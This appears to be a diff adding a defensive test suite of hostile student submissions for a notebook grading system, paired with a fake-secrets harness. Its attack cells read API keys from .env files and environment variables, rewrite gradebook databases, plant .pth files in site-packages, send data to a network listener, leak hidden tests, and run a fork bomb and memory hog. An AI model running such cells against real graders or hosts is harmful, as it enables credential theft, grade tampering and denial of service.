@@ -1,0 +1,236 @@
+"""Hostile submissions for the class graded once per session (tests/graded_class.py).
+
+Each attack is one extra code cell, put right after the first code cell of the solution of
+:data:`ASSIGNMENT` (so every test still passes: an attack must not earn more than the
+honest full marks, and must not cost the batch anything). The cells try what issue 18's
+table lists and what a hostile learner would try next: read the instructor's ``.env`` and
+the key lookup, ``UPDATE`` every gradebook they can find, write into ``site-packages`` and
+the repository, connect to a listener on 127.0.0.1, read every notebook they can find and
+capture the hidden tests as they run, a fork bomb, a memory hog, a 1 GB file. Every cell
+catches its own errors and prints what happened (stdout only: stderr in a test cell would
+cost points under nbgrader's rule), so tests/test_attacks.py can read the outcome.
+
+:class:`Secrets` is the instructor's side: a fake key in a ``.env`` beside and above the
+course root, in ``ANTHROPIC_API_KEY`` and in another variable, and a TCP listener that
+counts connections, all present while the class is graded.
+"""
+from __future__ import annotations
+
+import os
+import site
+import socket
+import threading
+from pathlib import Path
+
+ASSIGNMENT = "00_start_here"
+FAKE_KEY = "sk-ant-api03-FAKE-ctxlab-attack-suite-0123456789abcdef"
+MARK = "ctxlab_attack_mark"   # the name of every file an attack tries to write
+
+_ENV = r'''
+import os, pathlib
+from ctxlab._paths import REPO_ROOT
+from ctxlab.api import client as _client
+print("ATTACK env:", dict(os.environ))
+print("ATTACK key lookup:", _client._find_key())
+try:
+    print("ATTACK pid1 environ:", open("/proc/1/environ", "rb").read())
+except OSError as exc:
+    print("ATTACK pid1 environ:", exc)
+for d in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, REPO_ROOT, pathlib.Path.home(), pathlib.Path("{course_parent}")]:
+    try:
+        print("ATTACK .env", d, (d / ".env").read_text())
+    except OSError as exc:
+        print("ATTACK .env", d, type(exc).__name__)
+try:
+    print("ATTACK repo:", sorted(os.listdir(REPO_ROOT)))
+except OSError as exc:
+    print("ATTACK repo:", exc)
+'''
+
+_GRADEBOOK = r'''
+import os, sqlite3
+found = []
+for top in ["/", "{course_root}"]:
+    for dirpath, dirnames, filenames in os.walk(top):
+        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr")]
+        found += [os.path.join(dirpath, f) for f in filenames if f.startswith("gradebook") and f.endswith(".db")]
+for path in sorted(set(found)):
+    try:
+        con = sqlite3.connect(path)
+        con.execute("UPDATE grade SET extra_credit = 50, manual_score = 99")
+        con.commit()
+        print("ATTACK gradebook updated:", path)
+    except Exception as exc:
+        print("ATTACK gradebook", path, type(exc).__name__, exc)
+print("ATTACK gradebooks found:", len(found))
+'''
+
+_WRITE = r'''
+import os, site, sys, pathlib
+from ctxlab._paths import PACKAGE_DIR, DATA_DIR, REPO_ROOT
+targets = [*site.getsitepackages(), os.path.dirname(os.__file__), str(PACKAGE_DIR), str(DATA_DIR), str(REPO_ROOT),
+           str(pathlib.Path.home()), "/tmp", "{course_root}", "{course_parent}", *map(str, pathlib.Path.cwd().parents)]
+for d in targets:
+    for name in ("{mark}.pth", "{mark}.txt"):
+        try:
+            with open(os.path.join(d, name), "w") as fh:
+                fh.write("# harmless marker of the attack suite\n")  # a real attack would run code here
+            print("ATTACK wrote", os.path.join(d, name))
+        except OSError as exc:
+            print("ATTACK write", d, exc)
+'''
+
+_NET = r'''
+import socket
+for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 80)]:
+    try:
+        socket.create_connection((host, port), timeout=3).sendall(b"stolen")
+        print("ATTACK connected", host, port)
+    except OSError as exc:
+        print("ATTACK connect", host, port, exc)
+try:
+    print("ATTACK dns", socket.gethostbyname("example.com"))
+except OSError as exc:
+    print("ATTACK dns", exc)
+'''
+
+_HIDDEN = r'''
+import os
+# 1. every notebook it can find, hidden tests printed
+for top in ["/", "{course_root}", "{repo}"]:
+    for dirpath, dirnames, filenames in os.walk(top):
+        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", ".venv")]
+        for f in filenames:
+            if f.endswith(".ipynb"):
+                try:
+                    text = open(os.path.join(dirpath, f), encoding="utf-8").read()
+                except OSError as exc:
+                    print("ATTACK read", f, exc)
+                    continue
+                print("ATTACK read", os.path.join(dirpath, f), text.count("BEGIN HIDDEN TESTS"), "hidden blocks")
+                print(text)
+# 2. the hidden tests as the kernel runs them: print every later cell's source
+def _leak(info):
+    print("ATTACK cell:", info.raw_cell)
+get_ipython().events.register("pre_run_cell", _leak)
+'''
+
+_FORK = r'''
+import os, time
+children = 0
+try:
+    while True:
+        if os.fork() == 0:
+            time.sleep(15)
+            os._exit(0)
+        children += 1
+except OSError as exc:
+    print("ATTACK fork stopped after", children, "children:", exc)
+'''
+
+_MEMORY = r'''
+try:
+    huge = bytearray(30 * 2**30)
+    print("ATTACK allocated 30 GB")
+except MemoryError:
+    print("ATTACK 30 GB: MemoryError")
+chunks = []
+try:
+    while True:
+        chunks.append(bytearray(2**26))
+except MemoryError:
+    print("ATTACK hog stopped at", len(chunks) * 64, "MB: MemoryError")
+del chunks
+'''
+
+_BIGFILE = r'''
+import os
+for path in ["big.bin", "/tmp/big.bin"]:
+    written = 0
+    try:
+        with open(path, "wb") as fh:
+            for _ in range(1024):
+                fh.write(b"\0" * 2**20)
+                written += 1
+        print("ATTACK wrote 1 GB to", path)
+    except OSError as exc:
+        print("ATTACK file", path, "stopped at", written, "MB:", exc)
+    finally:
+        if os.path.exists(path):
+            os.remove(path)
+'''
+
+#: learner id -> the attack cell's source template
+ATTACKS = {"atk_env": _ENV, "atk_gradebook": _GRADEBOOK, "atk_write": _WRITE, "atk_net": _NET,
+           "atk_hidden": _HIDDEN, "atk_fork": _FORK, "atk_memory": _MEMORY, "atk_bigfile": _BIGFILE}
+
+
+class Secrets:
+    """The instructor's machine while the class is graded: a fake key in ``.env`` files and in
+    the environment, a listener on 127.0.0.1 that records every connection."""
+
+    def __init__(self, course_root: Path):
+        self.course_root = Path(course_root)
+        self.env_files = [self.course_root / ".env", self.course_root.parent / ".env"]
+        self.server = socket.socket()
+        self.server.bind(("127.0.0.1", 0))
+        self.server.listen(8)
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self.connections: list[bytes] = []
+        self._stop = threading.Event()
+        self._saved: dict[str, str | None] = {}
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1)
+                try:
+                    self.connections.append(conn.recv(100) or b"(connected)")
+                except OSError:
+                    self.connections.append(b"(connected)")
+
+    def __enter__(self) -> Secrets:
+        for f in self.env_files:
+            f.parent.mkdir(parents=True, exist_ok=True)
+            f.write_text(f"ANTHROPIC_API_KEY={FAKE_KEY}\n", encoding="utf-8")
+        for k in ("ANTHROPIC_API_KEY", "CTXLAB_INSTRUCTOR_TOKEN"):
+            self._saved[k] = os.environ.get(k)
+            os.environ[k] = FAKE_KEY
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.server.close()
+        for k, v in self._saved.items():
+            if v is None:
+                os.environ.pop(k, None)
+            else:
+                os.environ[k] = v
+
+    def cells(self, repo: Path) -> dict[str, str]:
+        """learner id -> the attack cell, filled in with this machine's paths and port."""
+        values = {"course_root": str(self.course_root), "course_parent": str(self.course_root.parent),
+                  "repo": str(repo), "port": str(self.port), "mark": MARK}
+        out = {}
+        for learner, template in ATTACKS.items():
+            code = template
+            for k, v in values.items():
+                code = code.replace("{" + k + "}", v)
+            out[learner] = code
+        return out
+
+
+def write_targets(repo: Path, course_root: Path) -> list[Path]:
+    """Host folders the write attack aims at (none may hold a marked file afterwards)."""
+    from ctxlab._paths import DATA_DIR, PACKAGE_DIR
+
+    return [Path(p) for p in site.getsitepackages()] + [Path(os.__file__).parent, PACKAGE_DIR, DATA_DIR, repo,
+                                                         Path.home(), Path("/tmp"), course_root, course_root.parent]
